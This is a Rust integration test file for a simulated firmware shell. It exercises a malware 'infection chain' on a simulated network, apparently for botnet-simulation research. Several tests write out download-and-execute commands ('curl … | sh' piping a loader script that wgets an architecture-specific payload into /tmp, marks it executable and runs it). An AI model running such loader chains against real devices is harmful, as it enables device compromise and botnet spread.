//! Shell-interpreter integration tests: the infection chain's commands
//! exercised over a live simulated network against a test file server.

use firmware::{
    CommandSet, ContainerEvent, ContainerHandle, FileEntry, FileKind, ProgramLauncher,
    ServedFile, ShellJob, ShellScript,
};
use netsim::topology::Fabric;
use netsim::{Application, Ctx, LinkConfig, Payload, SimTime, Simulator, TcpEvent};
use protocols::{HttpRequest, HttpResponse, HTTP_PORT};
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Arc;
use tinyvm::Arch;

/// Minimal static HTTP server for tests (the attacker crate has the real
/// one; firmware must not depend on it).
struct TestHttpServer {
    files: Vec<ServedFile>,
}

impl Application for TestHttpServer {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.tcp_listen(HTTP_PORT).expect("listen");
    }
    fn on_tcp(&mut self, ctx: &mut Ctx<'_>, ev: TcpEvent) {
        if let TcpEvent::Data { conn, payload, .. } = ev {
            let Some(req) = payload.get::<HttpRequest>() else {
                return;
            };
            let resp = match self.files.iter().find(|f| f.path == req.path) {
                Some(f) => HttpResponse::ok(Payload::new(f.clone()), f.entry.size_bytes as u32),
                None => HttpResponse::not_found(),
            };
            let bytes = resp.wire_size();
            let _ = ctx.tcp_send(conn, Payload::new(resp), bytes);
        }
    }
}

/// World: one dev node + one server node on a star; returns everything a
/// test needs to drive a ShellJob.
struct World {
    sim: Simulator,
    dev_node: netsim::NodeId,
    server_v4: std::net::IpAddr,
    container: ContainerHandle,
}

fn world(files: Vec<ServedFile>, commands: CommandSet) -> World {
    let mut sim = Simulator::new(3);
    let mut star = Fabric::star(&mut sim, "net");
    let dev_node = sim.add_node("dev");
    let server_node = sim.add_node("server");
    star.attach_core(&mut sim, dev_node, LinkConfig::new(500_000, std::time::Duration::from_millis(5)));
    let server_m = star.attach_core(&mut sim, server_node, LinkConfig::default());
    sim.install_app(server_node, Box::new(TestHttpServer { files }));
    let container = ContainerHandle::new("dev", Arch::X86_64, dev_node, commands, 1_000_000);
    World {
        sim,
        dev_node,
        server_v4: server_m.addr_v4,
        container,
    }
}

/// The payload program: counts its launches in the counter its test owns
/// (tests run on parallel threads, so they must not share one).
struct Launched(Arc<AtomicU32>);
impl Application for Launched {
    fn on_start(&mut self, _ctx: &mut Ctx<'_>) {
        self.0.fetch_add(1, Ordering::SeqCst);
    }
}

fn test_binary(arch: Arch, launches: &Arc<AtomicU32>) -> ServedFile {
    let launches = Arc::clone(launches);
    let launcher: ProgramLauncher =
        Arc::new(move |_ctx, _env| Box::new(Launched(Arc::clone(&launches))));
    ServedFile {
        path: format!("/bins/payload.{}", arch.suffix()),
        entry: FileEntry {
            kind: FileKind::Executable { arch, launcher },
            size_bytes: 50_000,
            executable: false,
        },
    }
}

fn loader_script(host: std::net::IpAddr) -> ServedFile {
    let script = ShellScript::new([
        format!("wget http://{host}/bins/payload.$ARCH -O /tmp/payload"),
        "chmod +x /tmp/payload".to_owned(),
        "/tmp/payload".to_owned(),
    ]);
    let size = script.byte_size();
    ServedFile {
        path: "/loader.sh".to_owned(),
        entry: FileEntry {
            kind: FileKind::Script(script),
            size_bytes: size,
            executable: false,
        },
    }
}

#[test]
fn curl_pipe_sh_downloads_and_executes() {
    let launches = Arc::new(AtomicU32::new(0));
    let files = |host| vec![loader_script(host), test_binary(Arch::X86_64, &launches)];
    let mut w = world(vec![], CommandSet::standard());
    let files = files(w.server_v4);
    // Re-create world with the right host baked into the script.
    w = world(files, CommandSet::standard());
    let job = ShellJob::command(
        w.container.clone(),
        format!("curl -s http://{}/loader.sh | sh", w.server_v4),
    );
    w.sim.install_app(w.dev_node, Box::new(job));
    w.sim.run_until(SimTime::from_secs(30));
    assert_eq!(launches.load(Ordering::SeqCst), 1, "payload executed once");
    assert!(w.container.state().fs.exists("/tmp/payload"));
    let events = &w.container.state().events;
    assert!(events
        .iter()
        .any(|e| matches!(e, ContainerEvent::Downloaded { path, .. } if path == "/tmp/payload")));
    assert!(events
        .iter()
        .any(|e| matches!(e, ContainerEvent::Executed { path, .. } if path == "/tmp/payload")));
}

#[test]
fn missing_curl_aborts_before_any_network_traffic() {
    let launches = Arc::new(AtomicU32::new(0));
    let mut w = world(vec![], CommandSet::without(&["curl"]));
    let files = vec![loader_script(w.server_v4), test_binary(Arch::X86_64, &launches)];
    w = world(files, CommandSet::without(&["curl"]));
    let job = ShellJob::command(
        w.container.clone(),
        format!("curl -s http://{}/loader.sh | sh", w.server_v4),
    );
    w.sim.install_app(w.dev_node, Box::new(job));
    w.sim.run_until(SimTime::from_secs(10));
    assert_eq!(launches.load(Ordering::SeqCst), 0);
    assert!(w
        .container
        .state()
        .events
        .iter()
        .any(|e| matches!(e, ContainerEvent::CommandMissing { command, .. } if command == "curl")));
}

#[test]
fn wrong_architecture_binary_does_not_execute() {
    let launches = Arc::new(AtomicU32::new(0));
    let mut w = world(vec![], CommandSet::standard());
    // Serve an ARM binary under the path an x86 host will request: the
    // container's $ARCH substitution requests payload.x86, so serve the
    // mismatched binary AT that path.
    let mut bin = test_binary(Arch::Arm7, &launches);
    bin.path = "/bins/payload.x86".to_owned();
    let files = vec![loader_script(w.server_v4), bin];
    w = world(files, CommandSet::standard());
    let job = ShellJob::command(
        w.container.clone(),
        format!("curl -s http://{}/loader.sh | sh", w.server_v4),
    );
    w.sim.install_app(w.dev_node, Box::new(job));
    w.sim.run_until(SimTime::from_secs(30));
    assert_eq!(
        launches.load(Ordering::SeqCst),
        0,
        "exec-format error: ARM binary on x86 host"
    );
}

#[test]
fn missing_file_on_server_fails_gracefully() {
    let w0 = world(vec![], CommandSet::standard());
    let server = w0.server_v4;
    let mut w = world(vec![], CommandSet::standard());
    let job = ShellJob::command(
        w.container.clone(),
        format!("curl -s http://{server}/nonexistent.sh | sh"),
    );
    w.sim.install_app(w.dev_node, Box::new(job));
    w.sim.run_until(SimTime::from_secs(10));
    // No payload is served, so nothing can launch; the job exits and its
    // `sh` process is deregistered.
    assert!(w.container.state().procs.is_empty());
}

#[test]
fn unreachable_server_times_out_and_cleans_up() {
    let mut w = world(vec![], CommandSet::standard());
    let job = ShellJob::command(
        w.container.clone(),
        "curl -s http://10.99.99.99/loader.sh | sh".to_owned(),
    );
    w.sim.install_app(w.dev_node, Box::new(job));
    w.sim.run_until(SimTime::from_secs(120));
    assert!(w.container.state().procs.is_empty(), "job must not leak processes");
}

#[test]
fn executing_without_chmod_fails() {
    let launches = Arc::new(AtomicU32::new(0));
    let mut w = world(vec![], CommandSet::standard());
    let script = ShellScript::new([
        format!("wget http://{}/bins/payload.$ARCH -O /tmp/p", w.server_v4),
        "/tmp/p".to_owned(), // no chmod +x
    ]);
    let size = script.byte_size();
    let files = vec![
        ServedFile {
            path: "/loader.sh".to_owned(),
            entry: FileEntry {
                kind: FileKind::Script(script),
                size_bytes: size,
                executable: false,
            },
        },
        test_binary(Arch::X86_64, &launches),
    ];
    let server = w.server_v4;
    w = world(files, CommandSet::standard());
    let job = ShellJob::command(
        w.container.clone(),
        format!("curl -s http://{server}/loader.sh | sh"),
    );
    w.sim.install_app(w.dev_node, Box::new(job));
    w.sim.run_until(SimTime::from_secs(30));
    assert_eq!(launches.load(Ordering::SeqCst), 0, "permission denied without +x");
}
